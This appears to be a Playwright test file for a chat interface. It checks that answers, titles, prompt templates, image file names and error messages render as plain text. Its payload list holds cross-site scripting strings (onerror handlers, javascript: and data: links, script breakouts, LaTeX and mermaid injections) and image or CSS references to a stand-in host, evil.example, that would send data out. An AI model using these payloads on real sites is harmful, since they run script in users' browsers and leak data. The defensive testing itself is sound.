"""Nothing that a model, a person or a file says runs, and nothing of it asks anybody for anything:
`open_page` sees to that in the end."""

import pytest
from playwright.sync_api import expect

from tests.support import Server
from tests.ui.conftest import OpenPage
from tests.ui.page import ChatPage
from tests.ui.test_images import DROP, png

PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1"></svg>',
    "</script><script>window.__pwned=1</script>",
    "[press](javascript:window.__pwned=1)",
    "[press](data:text/html,<script>window.__pwned=1</script>)",
    "![secret](https://evil.example/?q=secret)",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "$\\href{javascript:window.__pwned=1}{x}$",
    '$\\htmlData{x="onerror=1"}{x}$ $\\includegraphics{https://evil.example/x.png}$',
    "```mermaid\ngraph TD; A-->B; click A href javascript:window.__pwned=1\n```",
    "<a href=javascript:window.__pwned=1>x</a> <form action=https://evil.example><button>x",
    "<style>body{background:url(https://evil.example/x.png)}</style>",
]


# What a name of a file can hold.
NAME = "<img src=x onerror='window.__pwned=1'>.png"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_answer_cannot_run_anything(chat: ChatPage, payload: str) -> None:
    answer = chat.ask(payload)
    for link in answer.locator("a").all():
        assert not (link.get_attribute("href") or "").startswith(("javascript:", "data:"))
    assert answer.locator("script, iframe, object, form, style, img[src^='http']").count() == 0


def test_tags_that_come_in_pieces_cannot_either(chat: ChatPage) -> None:
    answer = chat.ask(
        '#pace=5 <img src=x onerror= "window.__pwned=1" > < script >window.__pwned=1</script>'
    )
    expect(answer).to_contain_text("onerror=")


def test_titles_and_templates_are_words(server: Server, open_page: OpenPage) -> None:
    payload = PAYLOADS[0]
    server.http.post("/api/v5/chat", json={"message": "hello", "title": payload})
    template = {"name": "evil", "title": payload, "system": payload, "description": payload}
    assert server.http.post("/api/v5/prompt/templates", json=template).status_code == 201
    try:
        page = open_page(server)
        expect(page.titles).to_contain_text("onerror")
        page.browser.get_by_text("onerror").first.click()
        expect(page.answers.last).to_contain_text("You said: hello")
    finally:
        server.http.delete("/api/v5/prompt/templates/evil")


def test_a_line_of_a_million_letters_does_not_stop_the_page(
    server: Server, open_page: OpenPage
) -> None:
    made = server.http.post("/api/v5/chat", json={"message": "hello"}).json()
    line = server.http.get(f"/api/v5/conversations/{made['conversation_id']}/export").json()
    line["messages"][-1]["content"] = "x" * 1_000_000
    imported = server.http.post("/api/v5/conversations/import", json=line)
    assert imported.status_code == 200, imported.text
    page = open_page(server)
    page.titles.first.click()
    expect(page.answers).to_have_count(1)
    page.ask("still there?")


def test_a_line_of_a_million_letters_can_be_said_and_answered(chat: ChatPage) -> None:
    answer = chat.ask("y" * 1_000_000)
    expect(answer.get_by_role("button", name="Show all")).to_be_visible()
    expect(chat.ask("still there?")).to_contain_text("You said: still there?")


def test_a_hostile_name_of_a_picture_is_a_word(chat: ChatPage) -> None:
    expect(chat.browser.get_by_role("meter")).to_be_visible()
    chat.browser.evaluate(DROP, [NAME, "image/png", list(png())])
    expect(chat.button(f"Remove {NAME}")).to_be_visible()
    chat.browser.evaluate(DROP, [NAME, "text/html", [60]])
    expect(chat.browser.get_by_role("alert")).to_contain_text("onerror")
    expect(chat.ask("what is it?")).to_contain_text("I see 1 image")


def test_a_hostile_error_is_words(chat: ChatPage) -> None:
    error = {"error": {"code": "x", "message": PAYLOADS[0] + "\n" + PAYLOADS[2]}}
    chat.browser.route("**/chat/stream", lambda route: route.fulfill(status=400, json=error))
    chat.send("hello")
    expect(chat.browser.get_by_role("alert")).to_contain_text("onerror")
